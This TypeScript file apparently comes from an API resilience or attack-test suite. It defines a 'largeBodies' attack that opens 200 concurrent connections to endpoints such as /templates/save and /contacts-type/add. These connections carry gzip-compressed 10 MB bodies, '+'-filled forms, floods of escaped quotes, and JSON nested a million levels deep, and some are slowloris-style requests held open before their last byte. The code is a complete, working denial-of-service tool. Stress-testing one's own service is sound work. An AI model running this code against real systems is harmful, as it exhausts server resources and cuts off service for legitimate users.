import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import type { Attack, AttackCalls, Attacker } from './attack.ts';

const MEGABYTE = 2 ** 20;
/** Calls that an account may have under way. */
const LANES = 200;
const BREATH_MS = 50;
/** Milliseconds for which a body is held. */
const HELD_MS = 30_000;

const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';
const DEEP = 1_000_000;

/** Bodies that are large, or that cost much to read: compressed ones, forms of `+`, escapes, and deep designs. */
function bodies(): readonly (readonly [path: string, type: string, body: Buffer, coding?: string])[] {
  const name = (bytes: number): string => JSON.stringify({ name: 'a'.repeat(bytes) });
  const nested = `{"mjml":"<mjml></mjml>","x":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`;
  return [
    ['/contacts-type/add', JSON_TYPE, gzipSync(name(10 * MEGABYTE - 100)), 'gzip'],
    ['/contacts-type/add', FORM_TYPE, gzipSync(`name=${'+'.repeat(10 * MEGABYTE - 100)}`), 'gzip'],
    ['/global-unsubscribes/save', FORM_TYPE, Buffer.from(`email_address=${'+'.repeat(4 * MEGABYTE - 100)}`)],
    ['/templates/save', JSON_TYPE, Buffer.from(`{"template_name":"${'\\"'.repeat(2 * MEGABYTE)}"}`)],
    [
      '/templates/save',
      JSON_TYPE,
      Buffer.from(JSON.stringify({ template_name: 'Deep', template_json: nested })),
    ],
    ['/contacts-type/add', JSON_TYPE, Buffer.from(`{"name":${'['.repeat(30_000)}`)],
  ];
}

/** Sends all of a body but its last byte, and waits for the answer. */
function hold(
  { origin, public_key, secret_key }: Attacker,
  path: string,
  body: Buffer,
  over: AbortSignal,
): Promise<void> {
  return new Promise((resolve) => {
    const sending = request(`${origin}/api${path}`, {
      method: 'POST',
      agent: false,
      signal: over,
      timeout: HELD_MS,
      headers: {
        PublicKey: public_key,
        SecretKey: secret_key,
        'Content-Type': JSON_TYPE,
        'Content-Length': body.length,
      },
    });
    sending.on('response', (answer) => answer.resume());
    sending.on('timeout', () => sending.destroy());
    sending.on('error', () => {});
    sending.once('close', resolve);
    sending.write(body.subarray(0, -1));
  });
}

const send = (
  calls: AttackCalls,
  { public_key, secret_key }: Attacker,
  [path, type, body, coding]: ReturnType<typeof bodies>[number],
) =>
  calls.call(`/api${path}`, {
    method: 'POST',
    body,
    headers: {
      PublicKey: public_key,
      SecretKey: secret_key,
      'Content-Type': type,
      ...(coding && { 'Content-Encoding': coding }),
    },
  });

export const largeBodies: Attack = {
  name: 'bodies',
  what: `${LANES} large bodies at once: compressed, held before their last byte, forms of +, escapes, deep designs`,
  run(calls, attacker) {
    const sent = bodies();
    const held = Buffer.from(JSON.stringify({ template_name: 'a'.repeat(5 * MEGABYTE - 100) }));
    const small = held.subarray(0, 65_000);
    return calls.again(
      LANES,
      (at) =>
        at % 3 === 0
          ? hold(attacker, '/templates/save', held, calls.over)
          : at % 3 === 1
            ? hold(attacker, '/senders', small, calls.over)
            : send(calls, attacker, sent[Math.floor(at / 3) % sent.length]!),
      BREATH_MS,
    );
  },
};
